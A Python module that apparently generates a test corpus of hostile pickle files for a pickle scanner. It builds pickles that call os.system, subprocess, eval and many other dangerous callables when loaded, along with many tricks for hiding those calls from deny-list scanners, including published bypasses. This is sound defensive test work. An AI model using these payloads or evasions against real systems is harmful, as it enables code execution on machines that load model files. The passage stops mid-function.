"""Hostile pickles: denied callables in every spelling, and every trick that hides one from a scanner."""

import pickle
import struct

from opcodes import Call, G, Raw, binunicode, dumps, encode, frame, global_, proto, short, stack_global


def make(corpus):
    callables(corpus)
    published(corpus)
    spellings(corpus)
    unused(corpus)
    dotted(corpus)
    operands(corpus)
    memo(corpus)
    objects(corpus)
    arguments(corpus)
    nested(corpus)
    broken(corpus)
    streams(corpus)
    disguised(corpus)
    unknown(corpus)


def callables(corpus):
    """Callables of denied modules, each called through REDUCE."""
    rows = [
        # slug, module, name, protocol, arguments, loader
        ("os-system", "os", "system", 4, lambda p: (p.command,), "pickle"),
        ("os-system-p0", "os", "system", 0, lambda p: (p.command,), "pickle"),
        ("os-system-p1", "os", "system", 1, lambda p: (p.command,), "pickle"),
        ("os-system-p2", "os", "system", 2, lambda p: (p.command,), "pickle"),
        ("os-system-p3", "os", "system", 3, lambda p: (p.command,), "pickle"),
        ("os-system-p5", "os", "system", 5, lambda p: (p.command,), "pickle"),
        ("posix-system", "posix", "system", 2, lambda p: (p.command,), "pickle"),
        ("posix-system-p4", "posix", "system", 4, lambda p: (p.command,), "pickle"),
        ("nt-system", "nt", "system", 2, lambda p: (p.command,), None),
        ("os-popen", "os", "popen", 4, lambda p: (p.command,), "pickle"),
        ("os-execvp", "os", "execvp", 3, lambda p: (p.argv[0], p.argv), "pickle"),
        ("os-spawnvp", "os", "spawnvp", 4, lambda p: (0, p.argv[0], p.argv), "pickle"),
        ("os-posix-spawnp", "posix", "posix_spawnp", 4, lambda p: (p.argv[0], p.argv, {}), "pickle"),
        ("os-mkdir", "os", "mkdir", 2, lambda p: (p.path,), "pickle"),
        ("os-putenv", "os", "putenv", 2, lambda p: ("MREG_CORPUS", "1"), None),
        ("subprocess-popen", "subprocess", "Popen", 4, lambda p: (p.argv,), "pickle"),
        ("subprocess-run", "subprocess", "run", 4, lambda p: (p.argv,), "pickle"),
        ("subprocess-call", "subprocess", "call", 2, lambda p: (p.argv,), "pickle"),
        ("subprocess-check-call", "subprocess", "check_call", 0, lambda p: (p.argv,), "pickle"),
        ("subprocess-check-output", "subprocess", "check_output", 3, lambda p: (p.argv,), "pickle"),
        ("subprocess-getoutput", "subprocess", "getoutput", 4, lambda p: (p.command,), "pickle"),
        ("subprocess-getstatusoutput", "subprocess", "getstatusoutput", 5, lambda p: (p.command,), "pickle"),
        ("commands-getoutput", "commands", "getoutput", 0, lambda p: (p.command,), None),
        ("builtins-eval", "builtins", "eval", 4, lambda p: (p.expression,), "pickle"),
        ("builtins-exec", "builtins", "exec", 4, lambda p: (p.code,), "pickle"),
        ("builtin2-eval", "__builtin__", "eval", 2, lambda p: (p.expression,), "pickle"),
        ("builtin2-exec-p0", "__builtin__", "exec", 0, lambda p: (p.code,), "pickle"),
        ("builtin2-execfile", "__builtin__", "execfile", 2, lambda p: (p.path,), None),
        ("builtin2-file", "__builtin__", "file", 2, lambda p: (p.path, "w"), None),
        ("builtin2-apply", "__builtin__", "apply", 2, lambda p: (G("os", "getpid"), ()), None),
        ("builtin2-reload", "__builtin__", "reload", 2, lambda p: (None,), None),
        ("builtins-open", "builtins", "open", 4, lambda p: (p.path, "w"), "pickle"),
        ("builtins-compile", "builtins", "compile", 4, lambda p: (p.code, "m", "exec"), None),
        ("builtins-import", "builtins", "__import__", 4, lambda p: ("os",), None),
        ("builtins-getattr", "builtins", "getattr", 4, lambda p: (G("collections", "OrderedDict"), "fromkeys"), None),
        ("builtins-setattr", "builtins", "setattr", 4, lambda p: (G("collections", "Counter"), "mreg", 1), None),
        ("builtins-delattr", "builtins", "delattr", 4, lambda p: (G("collections", "Counter"), "mreg"), None),
        ("builtins-globals", "builtins", "globals", 4, lambda p: (), None),
        ("builtins-vars", "builtins", "vars", 4, lambda p: (G("collections", "Counter"),), None),
        ("builtins-input", "builtins", "input", 4, lambda p: (), None),
        ("builtins-breakpoint", "builtins", "breakpoint", 4, lambda p: (), None),
        ("builtins-print", "builtins", "print", 4, lambda p: ("mreg",), None),
        ("builtins-super", "builtins", "super", 4, lambda p: (), None),
        ("io-fileio", "_io", "FileIO", 4, lambda p: (p.path, "w"), "pickle"),
        ("io-open", "io", "open", 4, lambda p: (p.path, "w"), "pickle"),
        ("io-open-code", "io", "open_code", 4, lambda p: (p.path,), None),
        ("runpy-run-code", "runpy", "_run_code", 4, lambda p: (p.code, {}), "pickle"),
        ("runpy-run-path", "runpy", "run_path", 4, lambda p: (p.path,), None),
        ("runpy-run-module", "runpy", "run_module", 2, lambda p: ("mreg_is_not_there",), None),
        ("timeit-timeit", "timeit", "timeit", 4, lambda p: (p.code, "pass", G("time", "perf_counter"), 1), "pickle"),
        ("timeit-main", "timeit", "main", 2, lambda p: (["-n", "1", "-r", "1", p.code],), "pickle"),
        ("timeit-repeat", "timeit", "repeat", 3, lambda p: ("pass", p.code, G("time", "perf_counter"), 1, 1), "pickle"),
        ("cprofile-run", "cProfile", "run", 4, lambda p: (p.code,), "pickle"),
        ("cprofile-runctx", "cProfile", "runctx", 4, lambda p: (p.code, {}, {}), "pickle"),
        ("profile-run", "profile", "run", 4, lambda p: (p.code,), "pickle"),
        ("profile-profile-run", "profile", "Profile.run", 4, lambda p: (Call(G("profile", "Profile")), p.code), "pickle"),
        ("trace-trace-run", "trace", "Trace.run", 4, lambda p: (Call(G("trace", "Trace"), 0, 0), p.code), "pickle"),
        ("pdb-run", "pdb", "run", 4, lambda p: (p.code,), None),
        ("bdb-run", "bdb", "Bdb.run", 4, lambda p: (Call(G("bdb", "Bdb")), p.code), None),
        ("doctest-debug-script", "doctest", "debug_script", 4, lambda p: (p.code,), None),
        ("code-runcode", "code", "InteractiveInterpreter.runcode", 4, lambda p: (Call(G("code", "InteractiveInterpreter")), p.code), "pickle"),
        ("code-interact", "code", "interact", 4, lambda p: (), None),
        ("codeop-compile", "codeop", "compile_command", 4, lambda p: (p.code,), None),
        ("pty-spawn", "pty", "spawn", 4, lambda p: (p.argv,), "pickle"),
        ("ctypes-cdll", "ctypes", "CDLL", 4, lambda p: ("/nonexistent/mreg.so",), None),
        ("shutil-rmtree", "shutil", "rmtree", 2, lambda p: ("/nonexistent/mreg",), None),
        ("shutil-copyfile", "shutil", "copyfile", 2, lambda p: ("/dev/null", p.path), "pickle"),
        ("socket-create", "socket", "create_connection", 4, lambda p: (("127.0.0.1", 9), 0.01), None),
        ("webbrowser-open", "webbrowser", "open", 2, lambda p: ("about:blank",), None),
        ("marshal-loads", "marshal", "loads", 4, lambda p: (b"N",), None),
        ("pickle-loads", "pickle", "loads", 4, lambda p: (dumps(Call(G("os", "system"), p.command), 2),), "pickle"),
        ("c-pickle-loads", "_pickle", "loads", 4, lambda p: (dumps(Call(G("os", "system"), p.command), 2),), "pickle"),
        ("dill-loads", "dill", "loads", 4, lambda p: (b"N.",), None),
        ("cloudpickle-make", "cloudpickle.cloudpickle", "_make_function", 4, lambda p: (None, {}, None, None, None), None),
        ("importlib-import", "importlib", "import_module", 4, lambda p: ("mreg_is_not_there",), None),
        ("importlib-machinery", "importlib.machinery", "SourceFileLoader", 4, lambda p: ("m", p.path), None),
        ("imp-load-source", "imp", "load_source", 2, lambda p: ("m", p.path), None),
        ("zipimport", "zipimport", "zipimporter", 4, lambda p: (p.path,), None),
        ("site-main", "site", "addsitedir", 4, lambda p: (p.path,), None),
        ("ensurepip", "ensurepip", "_run_pip", 4, lambda p: (["--version"],), None),
        ("venv-create", "venv", "create", 4, lambda p: ("/nonexistent/mreg/venv",), None),
        ("asyncio-subprocess", "asyncio", "create_subprocess_shell", 4, lambda p: (p.command,), None),
        ("multiprocessing-spawnv", "multiprocessing.util", "spawnv_passfds", 4, lambda p: (b"/bin/true", [b"true"], ()), None),
        ("threading-timer", "threading", "Timer", 4, lambda p: (0, None), None),
        ("signal-alarm", "signal", "setitimer", 4, lambda p: (0, 0.0), None),
        ("posixsubprocess", "_posixsubprocess", "fork_exec", 4, lambda p: (), None),
        ("urllib-urlopen", "urllib.request", "urlopen", 4, lambda p: ("file:///nonexistent/mreg",), None),
        ("urllib-urlretrieve", "urllib.request", "urlretrieve", 4, lambda p: ("file:///dev/null", p.path), "pickle"),
        ("http-client", "http.client", "HTTPSConnection", 4, lambda p: ("localhost",), None),
        ("smtplib", "smtplib", "SMTP", 2, lambda p: (), None),
        ("ftplib", "ftplib", "FTP", 2, lambda p: (), None),
        ("imaplib-stream", "imaplib", "IMAP4_stream", 4, lambda p: (p.command,), "pickle"),
        ("ssl-certificate", "ssl", "get_server_certificate", 2, lambda p: (("127.0.0.1", 9),), None),
        ("requests-get", "requests.api", "get", 4, lambda p: ("file:///nonexistent/mreg",), None),
        ("aiohttp-session", "aiohttp.client", "ClientSession", 4, lambda p: (), None),
        ("tempfile-named", "tempfile", "NamedTemporaryFile", 4, lambda p: (), None),
        ("linecache-getlines", "linecache", "getlines", 4, lambda p: ("/nonexistent/mreg",), None),
        ("inspect-getsource", "inspect", "getsource", 4, lambda p: (G("collections", "Counter"),), None),
        ("gc-get-objects", "gc", "get_objects", 4, lambda p: (), None),
        ("types-functiontype", "types", "FunctionType", 4, lambda p: (None, {}), None),
        ("functools-partial", "functools", "partial", 4, lambda p: (G("os", "system"), p.command), None),
        ("functools-reduce", "functools", "reduce", 4, lambda p: (G("os", "mkdir"), [p.path, 511]), "pickle"),
        ("operator-methodcaller", "operator", "methodcaller", 4, lambda p: ("system", p.command), None),
        ("operator-attrgetter", "operator", "attrgetter", 4, lambda p: ("system",), None),
        ("c-operator-call", "_operator", "attrgetter", 2, lambda p: ("system",), None),
        ("logging-filehandler", "logging", "FileHandler", 4, lambda p: (p.path,), "pickle"),
        ("logging-config-listen", "logging.config", "dictConfig", 4, lambda p: ({"version": 1},), None),
        ("sqlite3-connect", "sqlite3", "connect", 4, lambda p: (p.path,), "pickle"),
        ("unittest-mock", "unittest.mock", "_importer", 4, lambda p: ("os",), None),
        ("yaml-unsafe", "yaml", "unsafe_load", 4, lambda p: ("!!python/object/apply:os.system [" + p.command + "]",), "pickle"),
        ("sys-exit", "sys", "exit", 4, lambda p: (0,), None),
        ("setuptools", "setuptools", "setup", 4, lambda p: (), None),
        ("torch-hub-load", "torch.hub", "load", 2, lambda p: ("/nonexistent/mreg", "m"), None),
        ("torch-load", "torch.serialization", "load", 2, lambda p: (p.path,), None),
        ("torch-distributed", "torch.distributed.rpc.internal", "_run_function", 2, lambda p: (None,), None),
        ("numpy-memmap", "numpy", "memmap", 4, lambda p: (p.path, "uint8", "w+", 0, (1,)), "pickle"),
        ("numpy-load", "numpy", "load", 4, lambda p: (p.path, None, True), None),
        ("numpy-fromfile", "numpy", "fromfile", 4, lambda p: (p.path,), None),
        ("pandas-read-pickle", "pandas", "read_pickle", 4, lambda p: (p.path,), None),
        ("pandas-eval", "pandas.core.computation.eval", "eval", 4, lambda p: (p.expression,), None),
        ("joblib-load", "joblib", "load", 4, lambda p: (p.path,), None),
        ("transformers-dynamic", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", 4, lambda p: ("m.M", p.path), None),
        ("keras-load-model", "keras.models", "load_model", 4, lambda p: (p.path,), None),
    ]
    for slug, module, name, protocol, arguments, loader in rows:
        def build(payload, module=module, name=name, protocol=protocol, arguments=arguments):
            return dumps(Call(G(module, name), *arguments(payload)), protocol)

        corpus.hostile(f"call-{slug}.pkl", build, "malicious", "pickle", f"protocol {protocol}: {module}.{name} is called", loader)


def published(corpus):
    """Callables of published advisories against scanners with deny-lists."""
    rows = [
        ("pip-main", "pip", "main", "malicious", lambda p: (["--version"],), None),
        ("pip-internal", "pip._internal", "main", "malicious", lambda p: (["--version"],), None),
        ("pip-internal-cli", "pip._internal.cli.main", "main", "malicious", lambda p: (["--version"],), None),
        ("pkgutil-resolve", "pkgutil", "resolve_name", "malicious", lambda p: ("os:system",), None),
        ("distutils-write-file", "distutils.file_util", "write_file", "malicious", lambda p: (p.path, ["mreg"]), "pickle"),
        ("distutils-spawn", "distutils.spawn", "spawn", "malicious", lambda p: (p.argv,), "pickle"),
        ("idlelib-runcode", "idlelib.run", "Executive.runcode", "malicious", lambda p: (None, p.code), None),
        ("idlelib-get-entity", "idlelib.calltip", "get_entity", "malicious", lambda p: (p.expression,), "pickle"),
        ("idlelib-autocomplete", "idlelib.autocomplete", "AutoComplete.get_entity", "malicious", lambda p: (None, p.expression), "pickle"),
        ("lib2to3-loads", "lib2to3.pgen2.grammar", "Grammar.loads", "malicious", lambda p: (Call(G("lib2to3.pgen2.grammar", "Grammar")), dumps(Call(G("posix", "system"), p.command), 2)), "pickle"),
        ("osx-support", "_osx_support", "_read_output", "malicious", lambda p: (p.command,), "pickle"),
        ("aix-support", "_aix_support", "_read_cmd_output", "malicious", lambda p: (p.command,), "pickle"),
        ("pyrepl-pager", "_pyrepl.pager", "pipe_pager", "malicious", lambda p: ("m", p.command), None),
        ("pydoc-pipepager", "pydoc", "pipepager", "malicious", lambda p: ("m", p.command), "pickle"),
        ("test-script-helper", "test.support.script_helper", "run_python_until_end", "malicious", lambda p: ("-c", p.code), None),
        ("asyncio-unix", "asyncio.unix_events", "_UnixSubprocessTransport._start", "malicious", lambda p: (Call(G("collections", "Counter")), p.argv, False, None, None, None, 0), "pickle"),
        ("torch-collect-env", "torch.utils.collect_env", "run", "malicious", lambda p: (p.command,), "torch-pickle"),
        ("torch-cpp-extension", "torch.utils.cpp_extension", "load_inline", "malicious", lambda p: ("m", p.code), None),
        ("torch-bottleneck", "torch.utils.bottleneck.__main__", "run_autograd_prof", "malicious", lambda p: (p.code, {}), "torch-pickle"),
        ("torch-jit-exec", "torch.jit.unsupported_tensor_ops", "execWrapper", "malicious", lambda p: (p.code, {}, {}), "torch-pickle"),
        ("torch-inductor", "torch._inductor.codecache", "compile_file", "malicious", lambda p: ("", "", [p.command]), None),
        ("torch-dynamo", "torch._dynamo.guards", "GuardBuilder.get", "malicious", lambda p: (Raw(b"}"), p.expression), None),
        ("torch-data-decoder", "torch.utils.data.datapipes.utils.decoder", "basichandlers", "malicious", lambda p: ("pickle", dumps(Call(G("posix", "system"), p.command), 2)), "torch-pickle"),
        ("torch-shape-env", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "not-clean", lambda p: (None, p.expression, ()), "torch-pickle"),
        ("torch-fx-forward", "torch.fx.graph_module", "_forward_from_src", "not-clean", lambda p: ("def forward(self):\n    pass\n" + p.code, {}), "torch-pickle"),
        ("torch-config-module", "torch.utils._config_module", "ConfigModule.load_config", "not-clean", lambda p: (None, dumps(Call(G("posix", "system"), p.command), 2)), "torch-pickle"),
        ("numpy-runstring", "numpy.testing._private.utils", "runstring", "malicious", lambda p: (p.code, {}), "numpy-pickle"),
        ("numpy-f2py-getlincoef", "numpy.f2py.crackfortran", "getlincoef", "malicious", lambda p: (p.expression, {}), "numpy-pickle"),
        ("numpy-f2py-myeval", "numpy.f2py.crackfortran", "myeval", "malicious", lambda p: (p.expression, {}, {}), "numpy-pickle"),
        ("numpy-f2py-length", "numpy.f2py.crackfortran", "_eval_length", "malicious", lambda p: (p.expression, {}), "numpy-pickle"),
        ("numpy-ctypeslib", "numpy.ctypeslib", "load_library", "malicious", lambda p: ("mreg", "/nonexistent"), None),
        ("uuid-command", "uuid", "_get_command_stdout", "not-clean", lambda p: tuple(p.argv), "pickle"),
        ("cgitb-lookup", "cgitb", "lookup", "not-clean", lambda p: ("m", None, {}), None),
        ("platform-syscmd", "platform", "_syscmd_file", "not-clean", lambda p: (p.path,), None),
        ("atexit-register", "atexit", "register", "not-clean", lambda p: (None,), None),
        ("mailcap-findmatch", "mailcap", "findmatch", "not-clean", lambda p: ({}, "text/plain"), None),
        ("namedtuple", "collections", "namedtuple", "not-clean", lambda p: ("M", "a b"), None),
        ("make-dataclass", "dataclasses", "make_dataclass", "not-clean", lambda p: ("M", ["a"]), None),
        ("telnetlib", "telnetlib", "Telnet", "not-clean", lambda p: (), None),
        ("antigravity", "antigravity", "geohash", "not-clean", lambda p: (0.0, 0.0, b"m"), None),
        ("sklearn-load-files", "sklearn.datasets._base", "load_files", "not-clean", lambda p: ("/nonexistent/mreg",), None),
        ("sklearn-joblib", "sklearn.utils._joblib", "load", "malicious", lambda p: (p.path,), None),
        ("scipy-loadmat", "scipy.io", "loadmat", "not-clean", lambda p: (p.path,), None),
        ("ast-literal", "ast", "parse", "not-clean", lambda p: (p.expression,), None),
        ("getpass-getuser", "getpass", "getuser", "not-clean", lambda p: (), None),
    ]
    for slug, module, name, expected, arguments, loader in rows:
        def build(payload, module=module, name=name, arguments=arguments):
            return dumps(Call(G(module, name), *arguments(payload)), 4)

        loader = {"torch-pickle": "torch-pickle", "numpy-pickle": "pickle"}.get(loader, loader)
        corpus.hostile(f"advisory-{slug}.pkl", build, expected, "pickle", f"as in published bypasses: {module}.{name}", loader)

    def resolved(payload):
        return dumps(Call(Call(G("pkgutil", "resolve_name"), "os:system"), payload.command), 4)

    corpus.hostile("advisory-resolve-then-call.pkl", resolved, "malicious", "pickle", "pkgutil.resolve_name finds os.system, REDUCE calls what it found", "pickle")

    def functiontype(payload):
        code = Call(G("builtins", "compile"), payload.code, "m", "exec")
        return dumps(Call(Call(G("types", "FunctionType"), code, Raw(b"}")), ), 4)

    corpus.hostile("advisory-functiontype.pkl", functiontype, "malicious", "pickle", "compile, types.FunctionType, and a call of the function", "pickle")

    def codeop(payload):
        code = Call(G("codeop", "compile_command"), payload.code, "m", "exec")
        return dumps(Call(Call(G("types", "FunctionType"), code, Raw(b"}"))), 4)

    corpus.hostile("advisory-codeop-functiontype.pkl", codeop, "malicious", "pickle", "codeop.compile_command, types.FunctionType, and a call of the function", "pickle")

    def attrgetter(payload):
        found = Call(Call(G("operator", "attrgetter"), "system"), Call(G("importlib", "import_module"), "os"))
        return dumps(Call(found, payload.command), 4)

    corpus.hostile("advisory-attrgetter.pkl", attrgetter, "malicious", "pickle", "operator.attrgetter('system') on an imported os", "pickle")

    def methodcaller(payload):
        return dumps(Call(Call(G("operator", "methodcaller"), "system", payload.command), Call(G("importlib", "import_module"), "os")), 4)

    corpus.hostile("advisory-methodcaller.pkl", methodcaller, "malicious", "pickle", "operator.methodcaller('system', ...) on an imported os", "pickle")

    def partial(payload):
        return dumps(Call(Call(G("functools", "partial"), G("os", "system"), payload.command)), 4)

    corpus.hostile("advisory-partial-called.pkl", partial, "malicious", "pickle", "functools.partial of os.system, called", "pickle")

    def mapped(payload):
        return dumps(Call(G("builtins", "list"), Call(G("builtins", "map"), G("os", "system"), [payload.command])), 4)

    corpus.hostile("advisory-map-list.pkl", mapped, "malicious", "pickle", "map of os.system, drained by list", "pickle")

    def through_getattr(payload):
        return dumps(Call(Call(G("builtins", "getattr"), Call(G("builtins", "__import__"), "os"), "system"), payload.command), 4)

    corpus.hostile("advisory-import-getattr.pkl", through_getattr, "malicious", "pickle", "__import__, getattr, call", "pickle")


def spellings(corpus):
    """One callable, spelt by every opcode that can."""

    def inst(payload):
        return b"(S'" + payload.command.encode() + b"'\nios\nsystem\n."

    corpus.hostile("spell-inst-p0.pkl", inst, "malicious", "pickle", "INST with os system", "pickle")

    def obj(payload):
        return b"(cos\nsystem\nS'" + payload.command.encode() + b"'\no."

    corpus.hostile("spell-obj-p1.pkl", obj, "malicious", "pickle", "OBJ on a global", "pickle")

    def newobj(payload):
        return proto(2) + global_("subprocess", "Popen") + encode((payload.argv,), 2) + b"\x81."

    corpus.hostile("spell-newobj-p2.pkl", newobj, "malicious", "pickle", "NEWOBJ on subprocess.Popen: the class is only named", "pickle")

    def newobj_ex(payload):
        body = stack_global("subprocess", "Popen") + encode(((), {"args": payload.argv}), 4)[:-1] + b"\x92."
        return proto(4) + frame(body)

    corpus.hostile("spell-newobj-ex-p4.pkl", newobj_ex, "malicious", "pickle", "NEWOBJ_EX with keyword arguments on subprocess.Popen", "pickle")

    def instance(payload):
        return b"(" + encode(payload.argv, 0) + b"isubprocess\nPopen\n."

    corpus.hostile("spell-inst-popen.pkl", instance, "malicious", "pickle", "INST of a class with arguments", "pickle")

    def no_header(payload):
        return stack_global("os", "system") + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-stack-global-no-proto.pkl", no_header, "malicious", "pickle", "STACK_GLOBAL without a PROTO opcode before it", "pickle")

    def late_header(payload):
        return b"N0" + proto(4) + stack_global("os", "system") + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-late-proto.pkl", late_header, "malicious", "pickle", "a value is pushed and popped before PROTO", "pickle")

    def many_headers(payload):
        return proto(2) * 3 + proto(5) + global_("os", "system") + encode((payload.command,), 2) + b"R."

    corpus.hostile("spell-many-protos.pkl", many_headers, "malicious", "pickle", "PROTO four times", "pickle")

    def mixed(payload):
        return b"cos\nsystem\n" + binunicode(payload.command) + b"\x85R."

    corpus.hostile("spell-mixed-protocols.pkl", mixed, "malicious", "pickle", "protocol 0 global, protocol 1 string, protocol 2 tuple", "pickle")

    def crlf(payload):
        return b"cos\r\nsystem\r\n(S'" + payload.command.encode() + b"'\r\ntR."

    corpus.hostile("spell-crlf.pkl", crlf, "not-clean", "*", "lines end in CR LF: the carriage return is part of the name")

    def wide(payload):
        system = "system".encode()
        return proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + system + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-binunicode8.pkl", wide, "malicious", "pickle", "names as BINUNICODE8", "pickle")

    def three_forms(payload):
        return proto(4) + b"Vos\n" + binunicode("system") + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-unicode-line.pkl", three_forms, "malicious", "pickle", "names as UNICODE line and BINUNICODE", "pickle")

    def escaped(payload):
        return proto(4) + b"V\\u006fs\n" + b"Vsyst\\u0065m\n" + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-unicode-escapes.pkl", escaped, "malicious", "pickle", "names as UNICODE with escapes", "pickle")

    def string_escapes(payload):
        return proto(4) + b"S'\\x6f\\163'\n" + b"S\"s\\x79stem\"\n" + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-string-escapes.pkl", string_escapes, "malicious", "pickle", "names as STRING with hexadecimal and octal escapes", "pickle")

    def binstrings(payload):
        return proto(4) + b"U\x02os" + b"T\x06\x00\x00\x00system" + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("spell-binstrings.pkl", binstrings, "malicious", "pickle", "names as SHORT_BINSTRING and BINSTRING", "pickle")

    def long_line(payload):
        return b"S'" + b"x" * 6000 + b"'\n0cos\nsystem\n(S'" + payload.command.encode() + b"'\ntR."

    corpus.hostile("spell-long-line-first.pkl", long_line, "malicious", "pickle", "a string line of 6000 octets before the call", "pickle")

    def frames(payload):
        first = stack_global("os", "system")
        second = encode((payload.command,), 4) + b"R."
        return proto(4) + frame(first) + frame(second)

    corpus.hostile("spell-several-frames.pkl", frames, "malicious", "pickle", "the call is spread over two frames", "pickle")

    def far_down(payload):
        return proto(2) + b"(" + b"N" * 20000 + b"10" [:1] + b"cos\nsystem\n" + encode((payload.command,), 2) + b"R."

    corpus.hostile("spell-far-down.pkl", far_down, "malicious", "pickle", "twenty thousand values, dropped, before the call", "pickle")

    def python_two(payload):
        return b"c__builtin__\neval\n(S'" + payload.expression.replace("'", "\\'").encode() + b"'\ntR."

    corpus.hostile("spell-python2-eval.pkl", python_two, "malicious", "pickle", "protocol 0 with the module's old name", "pickle")

    def renamed_two(payload):
        # fix_imports maps __builtin__ and others; also commands -> subprocess.
        return proto(2) + global_("commands", "getoutput") + encode((payload.command,), 2) + b"R."

    corpus.hostile("spell-python2-commands.pkl", renamed_two, "malicious", "pickle", "a module that fix_imports renames to subprocess", "pickle")

    def file_uppercase(payload):
        return proto(2) + global_("UserList", "UserList") + encode(([Call(G("os", "system"), payload.command)],), 2) + b"R."

    corpus.hostile("spell-inside-argument.pkl", file_uppercase, "malicious", "pickle", "the call is an argument of another call", "pickle")


def unused(corpus):
    """Denied callables that are named and not called, or whose result is dropped."""
    corpus.hostile("named-only-p2.pkl", dumps(G("os", "system"), 2), "malicious", "pickle", "os.system is named, never called")
    corpus.hostile("named-only-p0.pkl", dumps(G("posix", "system"), 0), "malicious", "pickle", "posix.system is named in protocol 0, never called")
    corpus.hostile("named-in-list.pkl", dumps([1, 2, G("builtins", "eval")], 4), "malicious", "pickle", "eval is an element of a list")
    corpus.hostile("named-as-key.pkl", dumps({G("subprocess", "Popen"): 1}, 4), "malicious", "pickle", "Popen is a key of a dict")
    corpus.hostile("named-popped.pkl", proto(2) + global_("os", "system") + b"0N.", "malicious", "pickle", "os.system is named and dropped by POP")
    corpus.hostile("named-pop-mark.pkl", proto(2) + b"(" + global_("os", "system") + b"1N.", "malicious", "pickle", "os.system is named and dropped by POP_MARK")

    def dropped(payload):
        return proto(2) + global_("os", "system") + encode((payload.command,), 2) + b"R0" + encode({"weights": [1, 2, 3]}, 2) + b"."

    corpus.hostile("dropped-pop.pkl", dropped, "malicious", "pickle", "the result of the call is dropped, a plain dict is what loads", "pickle")

    def dropped_mark(payload):
        return proto(2) + b"(" + global_("os", "system") + encode((payload.command,), 2) + b"R1" + encode({"weights": [1]}, 2) + b"."

    corpus.hostile("dropped-pop-mark.pkl", dropped_mark, "malicious", "pickle", "the result of the call is dropped by POP_MARK", "pickle")

    def dropped_zero(payload):
        return b"cos\nsystem\n(S'" + payload.command.encode() + b"'\ntR0(dS'weights'\nI1\ns."

    corpus.hostile("dropped-p0.pkl", dropped_zero, "malicious", "pickle", "protocol 0: the result is dropped", "pickle")

    def overwritten(payload):
        call = encode(Call(G("os", "system"), payload.command), 2)
        return proto(2) + b"}" + encode("k", 2) + call + b"s" + encode("k", 2) + b"Ns."

    corpus.hostile("dropped-overwritten.pkl", overwritten, "malicious", "pickle", "the result is a dict value that the next item overwrites", "pickle")

    def below(payload):
        return proto(2) + encode(Call(G("os", "system"), payload.command), 2) + encode([1, 2], 2) + b"."

    corpus.hostile("dropped-left-on-stack.pkl", below, "malicious", "pickle", "the result stays below the value that loads", "pickle")

    def in_state(payload):
        body = global_("collections", "OrderedDict") + b")R" + encode({"note": Call(G("os", "system"), payload.command)}, 2) + b"b."
        return proto(2) + body

    corpus.hostile("call-in-build-state.pkl", in_state, "malicious", "pickle", "the call is a value in the state of a listed class", "pickle")

    def in_persid(payload):
        return proto(2) + encode(Call(G("os", "system"), payload.command), 2) + b"Q."

    corpus.hostile("call-in-persid.pkl", in_persid, "malicious", "pickle", "the call is a persistent id: it runs before the loader refuses", "pickle")

    def in_set(payload):
        return proto(4) + b"\x8f(" + encode(Call(G("os", "system"), payload.command), 4) + b"\x90."

    corpus.hostile("call-in-set.pkl", in_set, "malicious", "pickle", "the call is an element of a set", "pickle")

    def in_default(payload):
        return dumps(Call(G("collections", "defaultdict"), G("builtins", "eval")), 4)

    corpus.hostile("named-default-factory.pkl", in_default, "malicious", "pickle", "eval is the factory of a defaultdict: a missing key calls it")


def dotted(corpus):
    """Protocol 4 walks attributes, so a harmless module gives anything it has imported."""
    rows = [
        ("logging-os-system", "logging", "os.system", "malicious", "pickle"),
        ("collections-sys", "collections", "_sys.modules", "not-clean", None),
        ("datetime-sys", "datetime", "sys.modules", "malicious", None),
        ("uuid-os-system", "uuid", "os.system", "malicious", "pickle"),
        ("pathlib-os-system", "pathlib", "os.system", "malicious", "pickle"),
        ("fractions-operator", "fractions", "operator.attrgetter", "malicious", None),
        ("decimal-eval", "builtins", "eval.__call__", "malicious", None),
        ("torch-os-system", "torch.serialization", "os.system", "malicious", "torch-pickle"),
        ("torch-storage-io", "torch.storage", "io.open_code", "malicious", None),
        ("numpy-os", "numpy.lib._npyio_impl", "os.system", "malicious", "pickle"),
        ("joblib-os", "joblib.numpy_pickle", "os.system", "malicious", "joblib-pickle"),
        ("sklearn-os", "sklearn.utils._testing", "os.system", "malicious", None),
        ("random-os", "random", "_os.system", "not-clean", "pickle"),
        ("shelve-unpickler", "shelve", "Unpickler.load", "not-clean", None),
        ("class-subclasses", "collections", "OrderedDict.__subclasses__", "malicious", None),
        ("class-init-globals", "collections", "UserDict.__init__.__globals__", "malicious", None),
        ("dict-fromkeys", "builtins", "dict.fromkeys", "not-clean", None),
        ("str-format", "builtins", "str.format", "not-clean", None),
        ("torch-nn-functional", "torch.nn.modules.linear", "Linear.forward", "not-clean", None),
        ("sklearn-class-method", "sklearn.linear_model._base", "LinearRegression.fit", "not-clean", None),
    ]
    for slug, module, name, expected, loader in rows:
        def build(payload, module=module, name=name):
            return dumps(Call(G(module, name), payload.command), 4)

        loader = {"joblib-pickle": "pickle"}.get(loader, loader)
        corpus.hostile(f"dotted-{slug}.pkl", build, expected, "pickle", f"a dotted name: {module} + {name}", loader)

    def dotted_module_p2(payload):
        return dumps(Call(G("os.path", "os.system"), payload.command), 2)

    corpus.hostile("dotted-global-p2.pkl", dotted_module_p2, "malicious", "pickle", "a dotted name in GLOBAL at protocol 2: refused by the loader, still an attempt", "pickle")

    def dotted_module_p4(payload):
        return proto(4) + global_("logging", "os.system") + encode((payload.command,), 4) + b"R."

    corpus.hostile("dotted-global-p4.pkl", dotted_module_p4, "malicious", "pickle", "GLOBAL with a dotted name behind PROTO 4", "pickle")


def operands(corpus):
    """The operands of STACK_GLOBAL are computed."""

    def decoded(payload):
        name = Call(G("builtins", "str"), b"system", "ascii")
        return proto(4) + short("os") + encode(name, 4) + b"\x93" + encode((payload.command,), 4) + b"R."

    corpus.hostile("computed-name-str.pkl", decoded, "malicious", "pickle", "the name is what str(bytes) returns", "pickle")

    def module(payload):
        name = Call(G("builtins", "str"), b"os", "ascii")
        return proto(4) + encode(name, 4) + short("system") + b"\x93" + encode((payload.command,), 4) + b"R."
